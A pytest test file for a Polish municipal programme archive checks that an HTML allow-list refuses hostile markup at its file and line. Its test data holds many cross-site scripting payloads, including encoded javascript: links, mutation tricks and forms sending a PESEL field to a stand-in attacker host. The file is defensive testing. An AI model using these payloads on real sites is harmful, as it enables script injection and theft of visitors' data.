"""Nothing hostile reaches a reader: every text's, value's and page's HTML is checked against the
allow-list (nh3), refused with file:line in Polish, and never changed to pass."""

from __future__ import annotations

import contextlib
import io
import re
import shutil
from pathlib import Path

import pytest

from conftest import (
    GMINA_YML,
    PROGRAMME_MD,
    PROGRAMME_YML,
    PROJECT,
    commit,
    copy_project,
    init_repo,
    line_of,
    run_build,
    write_archive,
)
from pages import municipality_of, pick
from palarchiwum.clerk.command_line import run_check
from palarchiwum.records.markup_policy import cleaner, unsafe_markup

TEXT = "programmes/1234562-przykladowo/pal-2020-2022/programme.md"
RECORD = "programmes/1234562-przykladowo/pal-2020-2022/programme.yml"
GMINA = "programmes/1234562-przykladowo/gmina.yml"
EVIL = "https://t.example"  # stands for a tracker's or an attacker's host

# (name, Markdown added to a programme text, the line it is reported on (the text's own words, so
# the line is found in the file), what the message names). One group per class of attack.
MULTI_LINE = [
    (
        "handler-next-line",
        '<div\nonclick="steal()">tekst</div>',
        'onclick="steal()">',
        "atrybut onclick= na znaczniku <div> (kod uruchamiany",
    ),
    (
        "handler-split-over-lines",
        '<p\n\tONMOUSEOVER\n=\n"x">tekst</p>',
        '"x">tekst',
        "atrybut onmouseover= na znaczniku <p>",
    ),
    (
        "link-next-line",
        '<a\nhref="javascript:alert(1)">x</a>',
        'href="javascript',
        "adres „javascript:alert(1)” w atrybucie href=",
    ),
    (
        "handler-on-an-allowed-tag",
        '<details open\nontoggle="alert(1)">x</details>',
        "ontoggle",
        "atrybut ontoggle= na znaczniku <details>",
    ),
    (
        "slashes-for-spaces",
        '<div>\n<img/src="x"/onerror="alert(1)">\n</div>',
        "<img/src",
        "znacznik <img> (obraz lub multimedia)",
    ),
    (
        "unknown-tag-with-handler",
        '<marquee loop\nonstart="alert(1)">x</marquee>',
        "onstart",
        "znacznik <marquee>, którego archiwum nie publikuje",
    ),
]
ENCODED_SCHEMES = [
    (
        "decimal-reference",
        "[kliknij](&#106;avascript:alert(1))",
        "[kliknij]",
        "adres „javascript:alert(1)” w atrybucie href=",
    ),
    (
        "hex-references",
        '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
        "avascript",
        "adres „javascript:alert(1)” w atrybucie href=",
    ),
    (
        "tab-inside",
        '<a href="java&#9;script:alert(1)">x</a>',
        "java&#9;",
        "adres „java script:alert(1)” w atrybucie href=",
    ),
    ("mixed-case", "[x](JaVaScRiPt:alert(1))", "JaVaScRiPt", "adres „JaVaScRiPt:alert(1)” w atrybucie href="),
    (
        "named-colon",
        '<a href="javascript&colon;alert(1)">x</a>',
        "&colon;",
        "adres „javascript:alert(1)” w atrybucie href=",
    ),
    (
        "zero-padded",
        '<a href="&#0000106;avascript:alert(1)">x</a>',
        "&#0000106;",
        "adres „javascript:alert(1)” w atrybucie href=",
    ),
    (
        "reference-link",
        "[kliknij][a]\n\n[a]: javascript:alert(1)",
        "[a]: javascript",
        "adres „javascript:alert(1)” w atrybucie href=",
    ),
    ("vbscript", "[x](vbscript:msgbox(1))", "vbscript", "adres „vbscript:msgbox(1)” w atrybucie href="),
    (
        "data",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "data:text",
        "adres „data:text/html;base64,PHNjcmlwdD4=” w atrybucie href=",
    ),
    (
        "plain-http",
        "[strona gminy](http://bip.example/)",
        "http://bip",
        "adres „http://bip.example/” w atrybucie href=",
    ),
]
ATTRIBUTE_LISTS = [
    (
        "paragraph-handler",
        'Akapit.\n{: onclick="alert(1)" }',
        "{: onclick",
        "atrybut onclick= na znaczniku <p>",
    ),
    (
        "heading-style",
        '## Rozdział {: style="display:none" }',
        "## Rozdział",
        "atrybut style= na znaczniku <h2> (styl wpisany w tekst)",
    ),
    (
        "hides-official-text",
        "Akapit.\n{: hidden }",
        "{: hidden",
        "atrybut hidden= na znaczniku <p>, którego archiwum nie publikuje",
    ),
    ("inline-emphasis", '*ważne*{: onmouseover="x" }', "*ważne*", "atrybut onmouseover= na znaczniku <em>"),
    (
        "on-a-link",
        '[odnośnik](https://example.org){: onclick="x" }',
        "[odnośnik]",
        "atrybut onclick= na znaczniku <a>",
    ),
    (
        "theme-id",
        "Akapit.\n{: #__config }",
        "{: #__config",
        "identyfikator „__config” zastrzeżony dla szablonu lub skryptu strony",
    ),
    (
        "search-metadata",
        '## Rozdział {: data-pagefind-meta="title:Fałsz" }',
        "## Rozdział",
        "atrybut data-pagefind-meta= na znaczniku <h2>",
    ),
    ("title-off-list", '## Rozdział {: title="x" }', "## Rozdział", "atrybut title= na znaczniku <h2>"),
]
STYLES = [
    ("element", "<style>body{display:none}</style>", "<style>", "znacznik <style> (arkusz stylów)"),
    ("upper-case", '<STYLE type="text/css">p{}</STYLE>', "<STYLE", "znacznik <style> (arkusz stylów)"),
    (
        "inside-markdown-block",
        f'<div markdown="1">\n<style>@import url({EVIL}/x.css);</style>\n</div>',
        "@import",
        "znacznik <style> (arkusz stylów)",
    ),
    ("inside-svg", "<svg><style>circle{}</style></svg>", "<svg>", "znacznik <svg> (obraz lub multimedia)"),
    ("attribute", '<p style="color:red">x</p>', "color:red", "atrybut style= na znaczniku <p>"),
    (
        "font",
        f"<style>@font-face{{src:url({EVIL}/f.woff)}}</style>",
        "@font-face",
        "znacznik <style> (arkusz stylów)",
    ),
]
OUTSIDE_REQUESTS = [
    ("markdown-image", "![](https://t.example/piksel.gif)", "![](", "znacznik <img> (obraz lub multimedia)"),
    ("srcset", f'<img srcset="{EVIL}/p.gif 1x" alt="">', "srcset", "znacznik <img> (obraz lub multimedia)"),
    (
        "picture",
        f'<picture><source srcset="{EVIL}/p.webp"></picture>',
        "<picture>",
        "znacznik <picture> (obraz lub multimedia)",
    ),
    (
        "video-poster",
        f'<video poster="{EVIL}/p.jpg"></video>',
        "<video",
        "znacznik <video> (obraz lub multimedia)",
    ),
    ("audio", f'<audio src="{EVIL}/a.mp3"></audio>', "<audio", "znacznik <audio> (obraz lub multimedia)"),
    (
        "css-url",
        f'<p style="background:url({EVIL}/p.gif)">x</p>',
        "background:url",
        "atrybut style= na znaczniku <p>",
    ),
    (
        "stylesheet",
        f'<link rel="stylesheet" href="{EVIL}/x.css">',
        "<link",
        "znacznik <link> (uruchamia kod lub wczytuje treść)",
    ),
    (
        "scheme-relative-link",
        '<a href="//t.example/strona">x</a>',
        "//t.example",
        "adres w atrybucie href= zaczynający się od // (inny serwer, bez protokołu)",
    ),
    (
        "backslash-link",
        '<a href="/\\t.example/strona">x</a>',
        "t.example",
        "adres w atrybucie href= zaczynający się od //",
    ),
    (
        "iframe",
        f'<iframe src="{EVIL}/"></iframe>',
        "<iframe",
        "znacznik <iframe> (uruchamia kod lub wczytuje treść)",
    ),
    (
        "object",
        f'<object data="{EVIL}/x.swf"></object>',
        "<object",
        "znacznik <object> (uruchamia kod lub wczytuje treść)",
    ),
    (
        "image-button",
        f'<input type="image" src="{EVIL}/p.gif">',
        'type="image"',
        "atrybut src= na znaczniku <input> (wczytuje plik)",
    ),
    (
        "svg-image",
        f'<svg><image href="{EVIL}/p.gif"/></svg>',
        "<svg>",
        "znacznik <svg> (obraz lub multimedia)",
    ),
    (
        "form-elsewhere-after-a-space",
        f'<form action=" {EVIL}/zbierz"><input name="pesel"></form>',
        "<form",
        f"adres „{EVIL}/zbierz” w atrybucie action=",
    ),
    (
        "form-elsewhere-after-a-line-end",
        f'<form action="&#10;{EVIL}/zbierz"><input name="pesel"></form>',
        "<form",
        f"adres „{EVIL}/zbierz” w atrybucie action=",
    ),
    (
        "form-to-a-host-with-a-tab",
        '<form action="/&#9;/t.example/zbierz"><input name="pesel"></form>',
        "<form",
        "adres w atrybucie action= zaczynający się od //",
    ),
    (
        "link-to-a-host-after-a-space",
        '<a href=" //t.example/x">x</a>',
        "//t.example",
        "zaczynający się od //",
    ),
    ("link-to-a-host-with-a-tab", '<a href="/&#9;/t.example/x">x</a>', "t.example", "zaczynający się od //"),
    (
        "form-elsewhere",
        f'<form action="{EVIL}/zbierz"><button>Wyślij</button></form>',
        "<form",
        f"adres „{EVIL}/zbierz” w atrybucie action=",
    ),
]
SVG_AND_MATHML = [
    ("svg-onload", '<svg onload="alert(1)"></svg>', "<svg", "znacznik <svg> (obraz lub multimedia)"),
    (
        "svg-link",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<svg>",
        "znacznik <svg>",
    ),
    (
        "mathml-action",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        "<math>",
        "znacznik <math>",
    ),
    (
        "svg-animation",
        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
        "<svg>",
        "znacznik <svg>",
    ),
]
SCRIPTS_AND_TRICKS = [
    (
        "script",
        "<script>alert(1)</script>",
        "<script>",
        "znacznik <script> (uruchamia kod lub wczytuje treść)",
    ),
    ("split-script", "<scr<script>ipt>alert(1)</script>", "<scr<", "znacznik <script>"),
    ("base", f'<base href="{EVIL}/">', "<base", "znacznik <base> (uruchamia kod lub wczytuje treść)"),
    ("refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}">', "<meta", "znacznik <meta>"),
    (
        "formaction",
        '<form><button formaction="javascript:alert(1)">x</button></form>',
        "formaction",
        "atrybut formaction= na znaczniku <button>",
    ),
    (
        "theme-id-raw",
        '<div id="__config">{"x": 1}</div>',
        "__config",
        "identyfikator „__config” zastrzeżony dla szablonu lub skryptu strony",
    ),
    (
        "noscript-mutation",
        '<noscript><span title="</noscript><img src=x onerror=alert(1)>">x</span></noscript>',
        "<noscript>",
        "znacznik <noscript>, którego archiwum nie publikuje",
    ),
    (
        "lt-in-attribute",
        '<span title="</span><img src=x onerror=alert(1)>">x</span>',
        "<span title",
        "znak < wewnątrz znacznika <span>",
    ),
    ("comment-ending-early", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--", "niedozwolona treść HTML:"),
    (
        "script-id-with-other-data",
        '<form id="pal-dla-mnie" data-dane="https://t.example/programy.json" hidden></form>',
        "pal-dla-mnie",
        "identyfikator „pal-dla-mnie” zastrzeżony dla szablonu lub skryptu strony",
    ),
    (
        "link-left-open",
        'Zob. <a href="https://t.example/">regulamin',
        "Zob. <a",
        "fragment, który przeglądarka odczyta inaczej, niż go zapisano",
    ),
]
CASES = (
    MULTI_LINE
    + ENCODED_SCHEMES
    + ATTRIBUTE_LISTS
    + STYLES
    + OUTSIDE_REQUESTS
    + SVG_AND_MATHML
    + SCRIPTS_AND_TRICKS
)


def clerk_check(root: Path) -> tuple[int, str]:
    """`archiwum check` in a project made in `root` (the real mkdocs.yml copied in): its exit
    code and what it printed."""
    shutil.copy(PROJECT / "mkdocs.yml", root / "mkdocs.yml")
    return clerk_check_project(root)


def clerk_check_project(root: Path) -> tuple[int, str]:
    printed = io.StringIO()
    with contextlib.redirect_stderr(printed), contextlib.redirect_stdout(printed):
        code = run_check(root)
    return code, printed.getvalue()


def files_of(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.fixture(autouse=True)
def _as_of(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PAL_DATA_STANU", "2021-06-01")


@pytest.mark.parametrize(("markup", "where", "message"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_markup_off_the_allow_list_in_a_programme_text_is_refused_at_its_line(
    tmp_path: Path, markup: str, where: str, message: str
) -> None:
    text = PROGRAMME_MD + "\nZałącznik do programu.\n\n" + markup + "\n"
    write_archive(tmp_path / "programmes", text=text)
    before = files_of(tmp_path / "programmes")
    code, printed = clerk_check(tmp_path)
    assert code == 1
    assert f"{TEXT}:{line_of(text, where)}: niedozwolona treść HTML: " in printed, printed
    assert message in printed, printed
    assert "(wskazówka: " in printed and "Traceback" not in printed
    assert files_of(tmp_path / "programmes") == before  # refused, not "fixed"


SAFE = [
    ("link-https", "[strona gminy](https://bip.example/pal)"),
    ("link-mailto", "[napisz](mailto:ops@example.org)"),
    ("link-tel", "[zadzwoń](tel:+48895550000)"),
    ("link-within", "[rozdział II](#ii-dzialania)"),
    ("ids-and-classes", "Akapit.\n{: #moj-akapit .wazne }"),
    ("table-aligned", "| Rok | Kwota |\n|:---|---:|\n| 2020 | 1 000 zł |"),
    ("footnote", "Zdanie z przypisem.[^1]\n\n[^1]: Treść przypisu."),
    ("abbreviation", "Program PAL.\n\n*[PAL]: Program Aktywności Lokalnej"),
    ("admonition", '!!! note "Uwaga"\n    Treść uwagi.'),
    ("less-than-in-text", "Dzieci w wieku < 6 lat & ich rodzice; „cudzysłów” i 5 > 3."),
    ("escaped-markup-in-text", "Napis &lt;script&gt; jest tylko tekstem."),
    ("raw-inline-allowed", "Wzór m<sup>2</sup> i <em>kursywa</em>, <strong>pogrubienie</strong>."),
    ("non-breaking-space", "art.\u00a05 ust.\u00a02"),
    ("tag-markdown-shows-as-text", '<img/src="x"/onerror="alert(1)">'),
    ("ampersand-in-a-link", '<a href="https://bip.example/?id=1&section=2&region=3">uchwała</a>'),
    ("table-without-tbody", "<table><tr><td>2020</td><td>1 000 zł</td></tr></table>"),
    ("subscript", "Emisja CO<sub>2</sub> i powierzchnia 20 m<sup>2</sup>."),
    ("markup-quoted-in-code", 'Przykład:\n\n```\n<img src="x.png">\n<script>x()</script>\n```'),
]


@pytest.mark.parametrize("markdown", [c[1] for c in SAFE], ids=[c[0] for c in SAFE])
def test_markup_on_the_allow_list_passes(tmp_path: Path, markdown: str) -> None:
    write_archive(tmp_path / "programmes", text=PROGRAMME_MD + "\n" + markdown + "\n")
    code, printed = clerk_check(tmp_path)
    assert code == 0, printed


def test_every_place_is_named_not_only_the_first_one_of_a_kind(tmp_path: Path) -> None:
    # A code example quoting markup comes first: it is no place of the text's own markup.
    text = (
        PROGRAMME_MD
        + '\nPrzykład:\n\n```\n<img src="przyklad.png">\n```\n\n'
        + "![herb](https://t.example/herb.png)\n\nTekst.\n\n![mapa](https://t.example/mapa.png)\n"
    )
    write_archive(tmp_path / "programmes", text=text)
    code, printed = clerk_check(tmp_path)
    assert code == 1
    lines = sorted(
        int(line) for line in re.findall(rf"{TEXT}:(\d+): niedozwolona treść HTML: znacznik <img>", printed)
    )
    assert lines == [line_of(text, "![herb]"), line_of(text, "![mapa]")], printed


def test_a_record_value_is_refused_at_its_line(tmp_path: Path) -> None:
    record = PROGRAMME_YML.replace(
        "okres:",
        'nazwa_skrocona: "PAL <script>fetch(1)</script>"\n'
        'uwagi_redakcyjne:\n  - |\n    Uwaga redakcji.\n    {: onclick="alert(1)" }\n'
        "okres:",
    )
    write_archive(tmp_path / "programmes", record=record)
    code, printed = clerk_check(tmp_path)
    assert code == 1
    assert f"{RECORD}:3: niedozwolona treść HTML: znacznik <script>" in printed, printed
    assert f"{RECORD}:5: niedozwolona treść HTML: atrybut onclick= na znaczniku <p>" in printed, printed


def test_a_municipality_file_and_a_vocabulary_are_checked_too(tmp_path: Path) -> None:
    gmina = GMINA_YML + f'opis: "Gmina <img src={EVIL}/p.gif> nad rzeką"\n'
    folder = write_archive(tmp_path / "programmes", gmina=gmina)
    vocabulary = tmp_path / "programmes/slowniki/cele.yml"
    text = vocabulary.read_text(encoding="utf-8")
    first = next(i for i, line in enumerate(text.splitlines(), 1) if "opis:" in line)
    lines = text.splitlines()
    lines[first - 1] = lines[first - 1].split("opis:")[0] + "opis: <style>*{display:none}</style> Opis"
    vocabulary.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, printed = clerk_check(tmp_path)
    assert code == 1
    assert f"{GMINA}:{GMINA_YML.count(chr(10)) + 1}: niedozwolona treść HTML: znacznik <img>" in printed, (
        printed
    )
    assert f"programmes/slowniki/cele.yml:{first}: niedozwolona treść HTML: znacznik <style>" in printed
    assert folder.exists()


def test_a_hand_written_page_is_checked_with_its_placeholders_left_out(tmp_path: Path) -> None:
    write_archive(tmp_path / "programmes")
    page = tmp_path / "docs/strona.md"
    page.parent.mkdir()
    body = '---\ntitle: Strona\nwydawca: true\n---\n\n# Strona\n\n{{ wydawca.name }}\n\n<iframe src="https://t.example"></iframe>\n'
    page.write_text(body, encoding="utf-8")
    code, printed = clerk_check(tmp_path)
    assert code == 1
    assert f"docs/strona.md:{line_of(body, '<iframe')}: niedozwolona treść HTML: znacznik <iframe>" in printed


def test_every_problem_is_reported_in_one_run(tmp_path: Path) -> None:
    text = PROGRAMME_MD + '\n<style>p{}</style>\n\n[x](javascript:alert(1))\n\n<p onclick="x">y</p>\n'
    record = PROGRAMME_YML.replace("okres:", 'nazwa_skrocona: "<iframe></iframe>"\nokres:')
    write_archive(tmp_path / "programmes", text=text, record=record)
    code, printed = clerk_check(tmp_path)
    assert code == 1
    assert "(4 problemy)" in printed, printed
    for what in ("<style>", "javascript:alert(1)", "onclick=", "<iframe>"):
        assert what in printed


def test_the_page_check_sees_what_the_sanitizer_would_remove() -> None:
    clean = cleaner()
    assert unsafe_markup('<p>tekst<br />dalej</p><hr /><p class="x" id="y">\u00a0</p>', clean) == []
    found = unsafe_markup('<p onclick="x">a</p><a href="javascript:1">b</a><style>p{}</style>', clean)
    assert {(f.kind, f.tag, f.attribute) for f in found} == {
        ("attribute", "p", "onclick"),
        ("url", "a", "href"),
        ("tag", "style", ""),
    }


# The build: every page is checked as MkDocs rendered it, and a failure is told by file and line,
# or by page where no file explains it (values that only together make markup; a text from history).
# Breaking each in one build: every problem is reported at once, each at its file and line.
BUILD_CASES = [
    (
        "programme.md",
        '\n<div\nonclick="steal()">x</div>\n',
        "programme.md:",
        "atrybut onclick= na znaczniku <div>",
    ),
    ("programme.md", "\n<style>body{display:none}</style>\n", "programme.md:", "znacznik <style>"),
    ("programme.md", "\n![](https://t.example/p.gif)\n", "programme.md:", "znacznik <img>"),
    (
        "programme.yml",
        "  - 'Uwaga *redakcji*{: style=\"display:none\" }.'\n",
        "programme.yml:",
        "atrybut style= na znaczniku <em>",
    ),
]


def _ends_with_notes(url: str, _: dict) -> bool:
    """The record's last field is its list of editorial notes, written as BUILD_CASES append to."""
    text = (PROJECT / "programmes" / url.removeprefix("programy/") / "programme.yml").read_text("utf-8")
    return (
        "\nuwagi_redakcyjne:\n  - " in text
        and re.search(r"\n[a-z_]+:", text.rsplit("\nuwagi_redakcyjne:", 1)[1]) is None
    )


def test_pages_off_the_allow_list_stop_the_build_all_at_once_and_nothing_is_written(tmp_path: Path) -> None:
    url, _ = pick("editorial notes at the end of its record", _ends_with_notes)
    key = url.removeprefix("programy/")
    project = copy_project(tmp_path / "projekt", municipalities=[url.split("/")[1]])  # the one looked at
    folder = project / "programmes" / key
    # The additions are in no source text: the copy's attachment stops being the text programme.md
    # was copied from (rola: inny), so that the source check stays out of the way of this one.
    record = folder / "programme.yml"
    record.write_text(re.sub(r"(\n\s+rola:) zrodlo\b", r"\1 inny", record.read_text("utf-8")), "utf-8")
    for file, added, _, _ in BUILD_CASES:
        (folder / file).write_text((folder / file).read_text(encoding="utf-8") + added, encoding="utf-8")
    # A municipality's name that is harmless alone, but with the template's "[name](link)" makes
    # a javascript: link: no file explains it alone, so its pages are named.
    gmina = folder.parent / "gmina.yml"
    text = gmina.read_text(encoding="utf-8")
    name = next(line for line in text.splitlines() if line.startswith("nazwa:"))
    hostile = f"{municipality_of(url)['nazwa']}](javascript:alert(1)) [x"
    gmina.write_text(text.replace(name, f'nazwa: "{hostile}"'), encoding="utf-8")
    result = run_build(project)
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    for _, _, where, message in BUILD_CASES:
        found = re.search(
            rf"programmes/{re.escape(key)}/{where}\d+: [^\n]*{re.escape(message)}", result.stderr
        )
        assert found, (message, result.stderr)
    assert f"strona programy/{folder.parent.name}/" in result.stderr, result.stderr
    assert "adres „javascript:alert(1)” w atrybucie href=" in result.stderr
    assert not (project / "site").exists()


def test_a_hostile_text_in_the_history_is_refused_by_its_version_page(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "projekt", ("mkdocs.yml", "docs", "overrides", "hooks"))
    init_repo(project)
    folder = write_archive(project / "programmes")
    (folder / "programme.md").write_text(PROGRAMME_MD + '\n<p onclick="steal()">x</p>\n', encoding="utf-8")
    commit(project, "Dodanie programu", "Anna Nowak", "2024-01-10")
    (folder / "programme.md").write_text(PROGRAMME_MD + "\nPoprawka.\n", encoding="utf-8")
    commit(project, "Poprawka tekstu", "Anna Nowak", "2024-02-10")
    result = run_build(project)
    assert result.returncode != 0
    assert "strona programy/1234562-przykladowo/pal-2020-2022/" in result.stderr, result.stderr
    assert "atrybut onclick= na znaczniku <p>" in result.stderr
    assert TEXT not in result.stderr  # today's file is clean: the page says where it comes from


def test_the_real_archive_passes_the_check_on_every_page(real_site: Path) -> None:
    # No false alarm: the real archive built (the fixture), every page checked, and what is
    # published is what was rendered (the check never filters).
    log = (real_site.parent / "build.log").read_text(encoding="utf-8")
    pages = [p for p in real_site.rglob("*.html") if p.name != "404.html"]
    checked = re.search(r"kontrola HTML: sprawdzono (\d+) stron", log)
    assert checked and int(checked.group(1)) == len(pages), log
    code, printed = clerk_check_project(PROJECT)
    assert code == 0, printed
